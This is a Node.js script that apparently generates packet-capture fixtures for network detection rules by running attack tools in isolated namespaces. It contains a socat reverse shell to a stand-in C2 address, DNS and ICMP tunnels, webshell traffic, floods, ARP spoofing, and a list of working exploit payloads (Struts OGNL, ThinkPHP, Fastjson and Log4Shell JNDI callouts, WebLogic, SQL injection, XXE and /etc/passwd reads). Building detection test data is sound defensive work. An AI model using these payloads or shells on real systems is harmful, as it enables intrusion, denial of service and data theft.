/**
 * Makes the captures of the behaviours beside scans and logins: `node rules/make/behaviour-tools.mjs [part of a file
 * name …]` as root. Real tools in network namespaces; the few generators are marked in each rule's `made`.
 */
import { createHash } from 'node:crypto';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { Rig } from './rig.mjs';

const rules = join(dirname(fileURLToPath(import.meta.url)), '..', 'behaviour');
const wanted = process.argv.slice(2);
const work = mkdtempSync(join(tmpdir(), 'sw-make-'));
const rig = new Rig();
const C2 = '203.0.113.66', OTHER = ['203.0.113.20', '203.0.113.21', '192.0.2.80'], CLIENT = '10.42.3.57';
const NEAR = '192.0.2.253', FAR = '198.51.100.253', VICTIM = '10.42.1.10', VICTIMS = Array.from({ length: 8 }, (_, i) => `10.42.1.${10 + i}`);
const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/76.0.3809.132 Safari/537.36';

async function make(file, body, filter = 'not arp', snap = 0) {
  if (wanted.length > 0 && !wanted.some((w) => file.includes(w))) return;
  const raw = join(rules, file.replace(/\.gz$/, ''));
  await rig.capture(raw, async () => {
    const { code, output } = (await body()) ?? {};
    process.stdout.write(`${file}: ${code ?? 0}\n${String(output ?? '').split('\n').slice(-4).join('\n')}\n`);
  }, filter, snap);
  if (file.endsWith('.gz')) {
    writeFileSync(join(rules, file), gzipSync(readFileSync(raw), { level: 9 }));
    rmSync(raw);
  }
}
const attack = (...args) => rig.attack(...args);
const victim = (...args) => rig.fromVictim(...args);
const sh = (script) => rig.attack('bash', '-c', script);
const vsh = (script) => rig.fromVictim('bash', '-c', script);
/** Starts a program beside the attacker that lives until the rig closes. */
const beside = (...args) => void rig.attack(...args);
const node = (script) => [process.execPath, '-e', script];

try {
  rig.open([C2, CLIENT, ...OTHER, '198.51.100.250', NEAR], [...VICTIMS, FAR]);
  // A web server on both sides: pages, errors, ciphertext in answer to ciphertext.
  const web = `const h=require('http'),c=require('crypto');const k=Buffer.from('e45e329feb5d925b');
    const enc=(t)=>{const x=c.createCipheriv('aes-128-cbc',k,Buffer.alloc(16));return Buffer.concat([x.update(t),x.final()]).toString('base64')};
    const f=(q,r)=>{let n=[];q.on('data',d=>n.push(d));q.on('end',()=>{const u=q.url.split('?')[0];
      if(/shell\\.php$/.test(u))return r.end(enc('{"status":"success","msg":"'+'uid=33(www-data) '.repeat(8+n.length)+'"}'));
      if(/help\\.jsp$/.test(u)){const m=c.createHash('md5').update('passkey').digest('hex').toUpperCase();return r.end(m.slice(0,16)+enc('x'.repeat(300)+Math.random())+m.slice(16))}
      if(/^\\/big/.test(u))return r.end('y'.repeat(400000));
      if(/^\\/(?:$|index|page|admin|images|api|img|login|a\\d)/.test(u)){r.setHeader('content-type','text/html');return r.end('<html><title>home</title>'+'x'.repeat(700)+'</html>')}
      r.statusCode=404;r.end('<html>not found</html>')})};
    for(const p of [80,8080])h.createServer({keepAliveTimeout:30000},f).listen(p)`;
  rig.victim(...node(web));
  beside(...node(web));
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(work, 'tls.key'), '-out', join(work, 'tls.crt'), '-days', '30', '-subj', '/CN=localhost'], { stdio: 'ignore' });
  await sleep(600);

  // Beacons.
  const b = 'beacon/';
  await make(`${b}http-jitter.pcap`, () => vsh(`for i in $(seq 16); do curl -s -m 2 -A '${BROWSER}' -o /dev/null http://${C2}/api/v1/status; sleep $(awk -v r=$RANDOM 'BEGIN{print 1.3*(0.7+0.6*r/32768)}'); done`), 'not arp', 400);
  beside('openssl', 's_server', '-quiet', '-www', '-accept', `${C2}:443`, '-key', join(work, 'tls.key'), '-cert', join(work, 'tls.crt'));
  await make(`${b}tls-jitter.pcap`, () => vsh(`sleep 0.5; for i in $(seq 14); do curl -sk -m 2 -o /dev/null https://${C2}/; sleep $(awk -v r=$RANDOM 'BEGIN{print 1.3*(0.85+0.3*r/32768)}'); done`), 'not arp', 400);
  await make(`${b}keepalive.pcap`, () => victim(...node(`const h=require('http'),a=new h.Agent({keepAlive:true,maxSockets:1});let n=0;const go=()=>h.get({host:'${C2}',path:'/api/get?id='+n,agent:a},r=>{r.resume();r.on('end',()=>++n<16?setTimeout(go,1300*(0.8+0.4*Math.random())):process.exit())});go()`)), 'not arp', 400);
  await make(`${b}miss-browsing.pcap`, () => vsh(`for i in $(seq 24); do set -- ${OTHER.join(' ')}; shift $((RANDOM % 3)); curl -s -m 2 -A '${BROWSER}' -o /dev/null http://$1/page$i http://$1/img$i.png; sleep $(awk -v r=$RANDOM 'BEGIN{print -0.9*log((r+1)/32769)}'); done`), 'not arp', 300);
  await make(`${b}miss-poller.pcap`, () => sh(`for i in $(seq 14); do for v in ${VICTIMS.slice(0, 6).join(' ')}; do curl -s -m 2 --interface ${CLIENT} -o /dev/null http://$v/; done; sleep 1; done`), 'not arp', 200);
  await make(`${b}miss-updater.pcap`, () => vsh(`for i in $(seq 14); do for v in ${VICTIMS.slice(0, 5).join(' ')}; do curl -s -m 2 --interface $v -o /dev/null http://${OTHER[0]}/api/version; done; sleep 1.1; done`), 'not arp', 200);

  // DNS tunnels.
  const d = 'dns-tunnel/';
  for (const [name, type] of [['null', 'NULL'], ['txt', 'TXT']]) {
    await make(`${d}iodine-${name}.pcap`, async () => {
      beside('iodined', '-f', '-c', '-P', 'x7Kp', '-l', C2, '10.77.0.1/27', 't.example.net');
      await sleep(700);
      void victim('iodine', '-f', '-r', '-m', '200', '-T', type, '-P', 'x7Kp', C2, 't.example.net');
      await sleep(6000);
      const out = await vsh(type === 'NULL' ? 'ping -c 6 -i 0.3 10.77.0.1; curl -s -m 8 http://10.77.0.1/ | wc -c' : 'ping -c 20 -i 0.3 10.77.0.1');
      await sh('kill $(pgrep -x iodined -f --ns $$ 2>/dev/null) 2>/dev/null; for p in $(ip netns pids $(ip netns identify $$)); do [ "$(cat /proc/$p/comm)" = iodined ] && kill $p; done; true');
      await vsh('for p in $(ip netns pids $(ip netns identify $$)); do [ "$(cat /proc/$p/comm)" = iodine ] && kill $p; done; true');
      await sleep(500);
      return out;
    }, 'udp port 53');
  }
  await make(`${d}dns2tcp.pcap`, async () => {
    writeFileSync(join(work, 'dns2tcpd'), `listen = ${C2}\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = d.example.org\nresources = web:127.0.0.1:80\n`);
    beside('dns2tcpd', '-F', '-d', '1', '-f', join(work, 'dns2tcpd'));
    await sleep(500);
    void victim('dns2tcpc', '-r', 'web', '-z', 'd.example.org', '-l', '2222', '-d', '1', C2);
    await sleep(1000);
    const out = await vsh('for i in 1 2 3 4 5 6; do curl -s -m 8 http://127.0.0.1:2222/page$i | wc -c; done');
    await vsh('for p in $(ip netns pids $(ip netns identify $$)); do [ "$(cat /proc/$p/comm)" = dns2tcpc ] && kill $p; done; true');
    await sh('for p in $(ip netns pids $(ip netns identify $$)); do [ "$(cat /proc/$p/comm)" = dns2tcpd ] && kill $p; done; true');
    return out;
  }, 'udp port 53');
  // A name server that knows what is below example.com and nothing else.
  beside('dnsmasq', '-k', '-R', '-h', '--conf-file=/dev/null', '--pid-file', '--listen-address', OTHER[0], '--bind-interfaces', '--local=/#/', '--address=/example.com/192.0.2.80',
    '--address=/cdn-network.example/192.0.2.81', `--txt-record=big.example.com,${Array.from({ length: 5 }, () => 'v'.repeat(200)).join(',')}`);
  await sleep(500);
  const dig = (names, more = '') => {
    writeFileSync(join(work, 'names'), names.join('\n'));
    return vsh(`dig @${OTHER[0]} +tries=1 +time=2 +short ${more} -f ${join(work, 'names')} | tail -3`);
  };
  const words = ['mail', 'www', 'static', 'img', 'news', 'portal', 'oa', 'sso', 'video', 'download', 'update', 'api', 'map', 'pay', 'weather', 'search', 'time', 'login', 'docs', 'wiki'];
  await make(`${d}miss-lookups.pcap`, () => dig([
    ...words.flatMap((w) => [`${w}.example.com`, `${w}.province.gov.cn`, `${w}.bureau.gov.cn`, `${w}.shop.example`]),
    ...words.map((w, i) => `e${1000 + i * 37}.dscb.${w}.cdn-network.example`), ...words.map((w, i) => `d1${i}abcdefgh${i}.cloudfront.net`),
    ...Array.from({ length: 30 }, (_, i) => `${i}.1.42.10.in-addr.arpa`),
  ]), 'udp port 53');
  const g = 'generated-names/';
  let seed = 20191001;
  const drawn = () => (seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) >>> 8;
  await make(`${g}generated.pcap`, () => dig(Array.from({ length: 40 }, () => `${Array.from({ length: 12 }, () => String.fromCharCode(97 + (drawn() % 26))).join('')}.${['info', 'biz', 'net', 'org', 'ru'][drawn() % 5]}`)), 'udp port 53');
  await make(`${g}miss-typos.pcap`, () => dig(['gogle.com', 'baiduu.com', 'weibp.com', 'sinna.com.cn', 'taobap.com', 'micorsoft.com', 'wikipedai.org', 'yaho.com', 'youtub.com', 'facebok.com',
    'twiter.com', 'amazno.com', 'bilbili.com', 'zhihuu.com', 'doubam.com', 'tencnet.com', 'alipya.com', 'sogoou.com', 'weixinn.com', 'toutaio.com', 'old-server.example', 'printer-third-floor.example', 'fileshare.example',
    'intranet-portal.example', 'meeting-room.example', 'backup-server.example', 'test-database.example', 'development.example', 'oldmail.example', 'archive.example']), 'udp port 53');

  // ICMP.
  await make('icmp-tunnel/ptunnel.pcap', async () => {
    beside('ptunnel', '-c', 'eth0', '-v', '1');
    await sleep(500);
    void victim('ptunnel', '-p', C2, '-lp', '8000', '-da', '127.0.0.1', '-dp', '80', '-v', '1');
    await sleep(700);
    return vsh('for i in 1 2 3; do curl -s -m 6 http://127.0.0.1:8000/page$i | wc -c; done');
  }, 'icmp');
  await make('icmp-tunnel/miss-ping.pcap', () => vsh(`ping -c 10 -i 0.2 ${OTHER[0]}; ping -c 10 -i 0.2 -s 1400 ${OTHER[0]}; ping -c 8 -i 0.2 -s 4000 ${OTHER[1]}; ping -c 12 -i 0.2 -w 3 10.42.9.9`), 'icmp');

  // Shells and channels.
  const typed = ['id', 'hostname', 'uname -r', 'ls /usr', 'cat /etc/hostname', 'ls /etc | head -40', 'env | head -3', 'ps | head -5', 'df /', 'exit'];
  await make('interactive-outbound/socat-sh.pcap', async () => {
    const listener = sh(`(sleep 2; ${typed.map((t) => `echo '${t}'; sleep 1`).join('; ')}) | timeout 16 ncat -ln ${C2} 9443`);
    await sleep(1200);
    await victim('timeout', '14', 'unshare', '--uts', 'bash', '-c', `hostname web01; cd /var/tmp; env -i PATH=/usr/bin:/bin socat TCP:${C2}:9443 EXEC:/bin/sh,stderr`);
    return listener;
  });
  await make('interactive-outbound/miss-telemetry.pcap', async () => {
    const listener = sh(`timeout 13 ncat -ln ${OTHER[0]} 9001 > /dev/null`);
    await sleep(1200);
    await vsh(`(for i in $(seq 12); do echo "temperature=21.$i humidity=40 pressure=1013 door=closed fan=$i"; sleep 1; done) | timeout 13 ncat ${OTHER[0]} 9001`);
    return listener;
  });
  await make('interactive-outbound/miss-upload.pcap', async () => {
    const listener = sh(`timeout 13 ncat -ln ${OTHER[0]} 9002 > /dev/null`);
    await sleep(1200);
    await vsh(`(for i in $(seq 10); do head -c 40000 /dev/zero; sleep 1; done) | timeout 13 ncat ${OTHER[0]} 9002`);
    return listener;
  }, 'not arp', 100);
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(work, 'key')]);
  execFileSync('mkdir', ['-p', '/run/sshd']);
  for (const port of [22, 8443]) {
    writeFileSync(join(work, `sshd${port}`), `Port ${port}\nListenAddress ${C2}\nHostKey ${join(work, 'key')}\nPidFile none\nUsePAM no\nUseDNS no\n`);
    beside('/usr/sbin/sshd', '-D', '-f', join(work, `sshd${port}`));
  }
  beside('openssl', 's_server', '-quiet', '-accept', `${C2}:4443`, '-key', join(work, 'tls.key'), '-cert', join(work, 'tls.crt'));
  await sleep(500);
  const ssh = (port) => victim('ssh', '-p', String(port), '-R', '2222:127.0.0.1:22', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'BatchMode=yes', `nobody1@${C2}`, 'true');
  await make('odd-channel/ssh-8443.pcap', () => ssh(8443));
  await make('odd-channel/tls-4443.pcap', () => vsh(`(sleep 1; echo hello; sleep 1) | timeout 4 openssl s_client -noservername -connect ${C2}:4443 -quiet`));
  await make('odd-channel/miss-ssh-22.pcap', async () => {
    await ssh(22);
    return vsh(`curl -sk -m 3 -o /dev/null https://${C2}/`);
  });

  // Webshells that encrypt.
  const w = 'encrypted-webshell/';
  const curl = (...args) => attack('curl', '-sS', '-m', '5', '-A', BROWSER, '-o', '/dev/null', ...args);
  const cipher = (bytes) => execFileSync('openssl', ['enc', '-aes-128-cbc', '-K', Buffer.from('e45e329feb5d925b').toString('hex'), '-iv', '0'.repeat(32)], { input: Buffer.alloc(bytes, 'assert|eval(base64_decode(') }).toString('base64');
  await make(`${w}behinder3-php.pcap`, async () => {
    for (let i = 0; i < 8; i++) await curl('-H', 'Content-Type: application/x-www-form-urlencoded', '--data-binary', cipher(700 + i * 37), `http://${VICTIM}/upload/shell.php`);
  });
  await make(`${w}godzilla-jsp.pcap`, async () => {
    for (let i = 0; i < 8; i++) await curl('--data-urlencode', `pass=${cipher(500 + i * 53)}`, `http://${VICTIM}/static/help.jsp`);
  });
  await make(`${w}signed-in-uploads.pcap`, async () => {
    for (let i = 0; i < 8; i++) await curl('--data-urlencode', `data=${cipher(500 + i * 53)}`, '-d', `timestamp=15713856${10 + i}&sign=${createHash('md5').update(String(i)).digest('hex')}`, `http://${VICTIM}/static/help.jsp`);
  });
  await make(`${w}antsword-random.pcap`, async () => {
    for (let i = 0; i < 6; i++) await curl('--data-urlencode', `ant=${cipher(300 + i * 53)}`, `http://${VICTIM}/gone/x.php`);
  });
  await make(`${w}miss-api.pcap`, async () => {
    const picture = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from(cipher(600))]).toString('base64');
    for (let i = 0; i < 8; i++) {
      await curl('-H', 'Content-Type: application/json', '-d', `{"page":${i},"query":"统计","token":"${cipher(64).trim()}"}`, `http://${VICTIM}/api/list.do`);
      await curl('--data-urlencode', `picture=${picture}`, '-d', 'name=photo', `http://${VICTIM}/api/photo.php`);
      await curl('-F', `file=@${join(work, 'tls.crt')};type=text/plain`, `http://${VICTIM}/api/upload.jsp`);
      await curl('-d', `user=zhang${i}&password=Passw0rd${i}&code=8k2f`, '-e', `http://${VICTIM}/login.php`, `http://${VICTIM}/login.php`);
    }
  });

  // The web, often.
  writeFileSync(join(work, 'paths'), Array.from({ length: 160 }, (_, i) => `${words[i % words.length]}${i % 7 === 0 ? '.bak' : i}`).concat('admin', 'images').join('\n'));
  await make('directory-brute-force/dirb.pcap.gz', () => attack('dirb', `http://${VICTIM}/`, join(work, 'paths'), '-a', BROWSER, '-S', '-r'), 'port 80', 500);
  await make('directory-brute-force/gobuster.pcap.gz', () => attack('gobuster', 'dir', '-q', '-t', '4', '-a', BROWSER, '-u', `http://${VICTIM}/`, '-w', join(work, 'paths')), 'port 80', 500);
  await make('directory-brute-force/miss-dead-links.pcap', () => attack('curl', '-sS', '--interface', CLIENT, '-A', BROWSER, '-e', `http://${VICTIM}/index`, ...Array.from({ length: 60 }, (_, i) => [
    '-o', '/dev/null', `http://${VICTIM}/${i % 3 === 0 ? `old/report-${i}.doc` : `page${i}`}`]).flat()), 'port 80', 400);
  await make('http-flood/siege.pcap.gz', () => attack('siege', '-q', '-b', '-c', '8', '-r', '100', `http://${VICTIM}/index?x`), 'port 80', 300);
  await make('http-flood/miss-page.pcap.gz', () => attack('curl', '-sS', '--interface', CLIENT, ...Array.from({ length: 300 }, (_, i) => ['-o', '/dev/null', `http://${VICTIM}/img${i}.png`]).flat()), 'port 80', 300);

  // Floods.
  await make('syn-flood/hping3.pcap.gz', () => attack('hping3', '-q', '-S', '-p', '80', '-i', 'u800', '-c', '4000', '-a', C2, VICTIM), 'port 80', 74);
  await make('syn-flood/hping3-random-sources.pcap.gz', () => attack('hping3', '-q', '-S', '-p', '80', '-i', 'u800', '-c', '4000', '--rand-source', VICTIM), 'port 80', 74);
  await make('syn-flood/miss-busy-server.pcap.gz', () => attack('ab', '-q', '-n', '900', '-c', '10', `http://${VICTIM}/index`), 'port 80', 200);
  await make('udp-flood/hping3.pcap.gz', () => attack('hping3', '-q', '--udp', '-p', '9999', '-i', 'u800', '-c', '4000', VICTIM), 'udp', 74);
  await make('udp-flood/miss-media.pcap.gz', () => attack(...node(`const s=require('dgram').createSocket('udp4');let n=0;const t=setInterval(()=>{for(let i=0;i<8;i++)s.send(Buffer.alloc(1200,n++),20000,'${VICTIM}');if(n>3000){clearInterval(t);s.close()}},20)`)), 'udp', 74);
  await make('icmp-flood/hping3.pcap.gz', () => attack('hping3', '-q', '-1', '-i', 'u800', '-c', '3000', VICTIM), 'icmp', 74);
  await make('icmp-flood/miss-ping.pcap', () => attack('ping', '-q', '-i', '0.2', '-c', '30', VICTIM), 'icmp', 74);
  rig.victim(...node(`const d=require('dgram').createSocket('udp4');d.on('message',(m,r)=>{const h=Buffer.alloc(12);m.copy(h,0,0,2);h.writeUInt16BE(0x8580,2);h.writeUInt16BE(1,4);h.writeUInt16BE(11,6);const q=m.subarray(12,m.length);const a=[];for(let i=0;i<11;i++){const t=Buffer.alloc(12+250);t.writeUInt16BE(0xc00c,0);t.writeUInt16BE(16,2);t.writeUInt16BE(1,4);t.writeUInt32BE(60,6);t.writeUInt16BE(250,10);t[12]=249;t.fill(118,13);a.push(t)}d.send(Buffer.concat([h,q,...a]),r.port,r.address)});d.bind(53,'${VICTIM}')`));
  await sleep(300);
  await make('amplification/dns-any.pcap.gz', () => attack(...node(`const s=require('dgram').createSocket('udp4');let n=0;const q=Buffer.from('00010100000100000000000003616e79076578616d706c6503636f6d0000ff0001','hex');s.on('error',()=>{});const t=setInterval(()=>{for(let i=0;i<5;i++){q.writeUInt16BE(n++&65535,0);s.send(q,53,'${VICTIM}')}if(n>420){clearInterval(t);setTimeout(()=>process.exit(),300)}},20)`)), 'udp');
  await make('amplification/miss-resolver.pcap', () => dig(Array.from({ length: 20 }, () => 'big.example.com TXT'), '+notcp'), 'udp', 400);
  const slow = (kind, ...more) => attack('slowhttptest', kind, '-c', '100', '-i', '3', '-r', '60', '-l', '13', '-p', '2', '-u', `http://${VICTIM}/${kind === '-X' ? 'big' : 'index'}`, ...more);
  await make('slow-http/slowhttptest-headers.pcap.gz', () => slow('-H'), 'port 80', 400);
  await make('slow-http/slowhttptest-body.pcap.gz', () => slow('-B', '-s', '8192', '-x', '10'), 'port 80', 400);
  await make('slow-http/slowhttptest-read.pcap.gz', () => slow('-X', '-w', '10', '-y', '20', '-n', '5', '-z', '16', '-k', '3'), 'port 80', 400);
  await make('slow-http/miss-keepalive.pcap.gz', () => attack(...node(`const h=require('http');for(let i=0;i<60;i++){const a=new h.Agent({keepAlive:true,maxSockets:1});let n=0;const go=()=>h.get({host:'${VICTIM}',path:'/page'+i,agent:a},r=>{r.resume();r.on('end',()=>{if(++n<3)setTimeout(go,3000)})});setTimeout(go,i*10)}setTimeout(()=>process.exit(),11000)`)), 'port 80', 400);
  const people = `const h=require('http'),W=[7,9,10,5,8,4,2,1,6,3,7,9,10,5,8,4,2];
    const id=(i,bad)=>{const n='1101'+String(10+i%5).slice(-2)+String(1950+i%55)+String(1+i%12).padStart(2,'0')+String(1+i%28).padStart(2,'0')+String(100+i*7%900);let s=0;for(let k=0;k<17;k++)s+=n[k]*W[k];return n+'10X98765432'[(s+(bad?3:0))%11]};
    h.createServer((q,r)=>{const p=new URL(q.url,'http://x');r.setHeader('content-type','application/json;charset=utf-8');const page=Number(p.searchParams.get('page')||0);
      if(p.pathname==='/all')return r.end(JSON.stringify(Array.from({length:60},(_,i)=>({name:'张三',id:id(i),phone:'138'+String(12345678+i*7919).slice(0,8)}))));
      if(p.pathname==='/page')return r.end(JSON.stringify(Array.from({length:8},(_,i)=>({name:'李四',id:id(page*8+i)}))));
      r.end(JSON.stringify({phones:Array.from({length:60},(_,i)=>'1380013'+String(1000+i*37)),products:Array.from({length:80},(_,i)=>String(690123456789012345n+BigInt(i*1237))),wrong:Array.from({length:40},(_,i)=>id(i,true)),digest:'a3f5'.repeat(16),time:Array.from({length:40},(_,i)=>1569888000000+i*86400000)}))}).listen(8090,'${VICTIM}')`;
  rig.victim(...node(people));
  await sleep(1500);
  await make('personal-data-leak/id-list.pcap', () => attack('curl', '-sS', '-o', '/dev/null', `http://${VICTIM}:8090/all`));
  await make('personal-data-leak/by-pages.pcap', () => attack('curl', '-sS', ...Array.from({ length: 30 }, (_, i) => ['-o', '/dev/null', `http://${VICTIM}:8090/page?page=${i}`]).flat()));
  await make('personal-data-leak/miss-phone-list.pcap', () => attack('curl', '-sS', '-o', '/dev/null', `http://${VICTIM}:8090/phones`));

  // Neighbours, fingerprints, zones, volume, lists, many attempts.
  await make('arp-spoofing/arpspoof.pcap', async () => {
    // The gateway is a station of its own on the wire, until arpspoof speaks for it.
    await sh('sysctl -qw net.ipv4.conf.all.arp_ignore=1; ip link add mv0 link eth0 type macvlan mode bridge; ip addr add 10.42.1.254/32 dev mv0; ip link set mv0 up');
    await vsh('ping -c 2 -i 0.3 -W 1 10.42.1.254');
    await sh(`ip link del mv0; ping -c 1 -W 1 ${VICTIM}; timeout 9 arpspoof -i eth0 -t ${VICTIM} 10.42.1.254; sysctl -qw net.ipv4.conf.all.arp_ignore=0`);
    return {};
  }, 'arp');
  await make('arp-spoofing/miss-resolution.pcap', () => vsh(`for i in 1 2 3 4 5; do ip neigh flush all; ping -c 1 -W 1 ${CLIENT}; ping -c 1 -W 1 ${C2}; sleep 0.3; done; arping -q -U -c 3 -I eth0 ${VICTIM}`), 'arp');
  await make('os-fingerprint/nmap-o.pcap', () => attack('nmap', '-n', '-Pn', '-e', 'eth0', '-O', '--max-os-tries', '1', '-p', '80,8080,81,9999', VICTIM));
  await make('os-fingerprint/miss-scan.pcap', () => attack('nmap', '-n', '-Pn', '-e', 'eth0', '-sS', '-T4', '--top-ports', '30', VICTIM));
  await make('ack-scan/nmap-sa.pcap', () => attack('nmap', '-n', '-Pn', '-e', 'eth0', '-sA', '-T4', '--top-ports', '60', VICTIM));
  await make('ack-scan/miss-midstream.pcap', () => attack('curl', '-sS', ...VICTIMS.flatMap((v) => ['-o', '/dev/null', `http://${v}/page`, '-o', '/dev/null', `http://${v}:8080/page`])), 'tcp[13] & 2 = 0');
  await make('zone-crossing/crossing.pcap', () => attack('curl', '-sS', '-m', '3', '--interface', NEAR, '-o', '/dev/null', `http://${FAR}/page`));
  await make('zone-crossing/miss-allowed.pcap', () => victim('curl', '-sS', '-m', '3', '--interface', FAR, '-o', '/dev/null', `http://${NEAR}/page`));
  execFileSync('dd', ['if=/dev/zero', `of=${join(work, 'large')}`, 'bs=1M', 'count=20', 'status=none']);
  await make('exfiltration-volume/upload.pcap.gz', () => victim('curl', '-sS', '-m', '20', '-o', '/dev/null', '-T', join(work, 'large'), `http://${C2}/upload`), 'port 80', 66);
  await make('exfiltration-volume/miss-download.pcap.gz', async () => {
    await victim('curl', '-sS', '-m', '20', '-o', '/dev/null', '-Z', ...Array.from({ length: 20 }, () => ['-o', '/dev/null', `http://${C2}/big`]).flat());
    return attack('curl', '-sS', '-m', '20', '--interface', CLIENT, '-o', '/dev/null', '-T', join(work, 'large'), `http://${VICTIM}/upload`);
  }, 'port 80', 66);
  await make('indicator-match/lookup.pcap', () => dig(['www.indicator-test.example', 'mail.example.com']), 'udp port 53');
  await make('indicator-match/call.pcap', () => victim('curl', '-sS', '-m', '3', '-o', '/dev/null', 'http://198.51.100.250/page'));
  await make('indicator-match/miss-lookup.pcap', async () => {
    await dig(['www.indicator-test.example.org', 'mail.example.com']);
    return victim('curl', '-sS', '-m', '3', '-o', '/dev/null', `http://${OTHER[0]}/page`);
  }, 'udp port 53 or tcp port 80');
  const proofs = [
    ['-H', 'Content-Type: %{(#nike=\'multipart/form-data\').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):0).(#cmd=\'id\')}', '/a1'],
    ['/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id'],
    ['-d', '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id', '/index.php?s=captcha'],
    ['-d', '{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://192.0.2.99:1099/a","autoCommit":true}}', '/api/json'],
    ['-d', '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"></object></java></work:WorkContext></soapenv:Header></soapenv:Envelope>', '/wls-wsat/CoordinatorPortType'],
    ['-d', '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><class><string>oracle.toplink.internal.sessions.UnitOfWorkChangeSet</string></class></work:WorkContext></soapenv:Header></soapenv:Envelope>', '/_async/AsyncResponseService'],
    ['-X', 'PUT', '-d', '<%Runtime.getRuntime().exec(request.getParameter("c"));%>', '/a2.jsp/'],
    ['-H', 'Accept-Charset: c3lzdGVtKCdpZCcpOw==', '-H', 'Accept-Encoding: gzip,deflate', '/index.php'],
    ['-d', 'bsh.script=exec("id");', '/weaver/bsh.servlet.BshServlet'],
    ['-d', 'DBSTEP V3.0     355             0               666             DBSTEP=OKMLlKlV', '/seeyon/htmlofficeservlet'],
    ['/mailsms/s?func=ADMIN:appState&dumpConfig=/'],
    ['-b', `rememberMe=${cipher(900).replaceAll('\n', '')}`, '/login'],
    ['/a3?id=1%20union%20select%201,2,concat(user(),0x3a,version())--%20-'], ['/a4?file=../../../../../../etc/passwd'], ['/a5?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'],
    ['/a6?x=${jndi:ldap://192.0.2.99:1389/a}'], ['/a7?host=127.0.0.1;cat%20/etc/passwd'], ['-d', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', '/a8'],
  ];
  const tried = async (list) => {
    for (const one of list) await attack('curl', '-sS', '-g', '--path-as-is', '-m', '3', '-A', BROWSER, '-o', '/dev/null', ...one.slice(0, -1), `http://${VICTIM}${one[one.length - 1]}`);
    return {};
  };
  await make('many-attempts/payloads.pcap', () => tried(proofs));
  await make('many-attempts/miss-two.pcap', () => tried(proofs.slice(0, 2)));
} finally {
  rig.close();
  rmSync(work, { recursive: true, force: true });
}
spawnSync('sync');
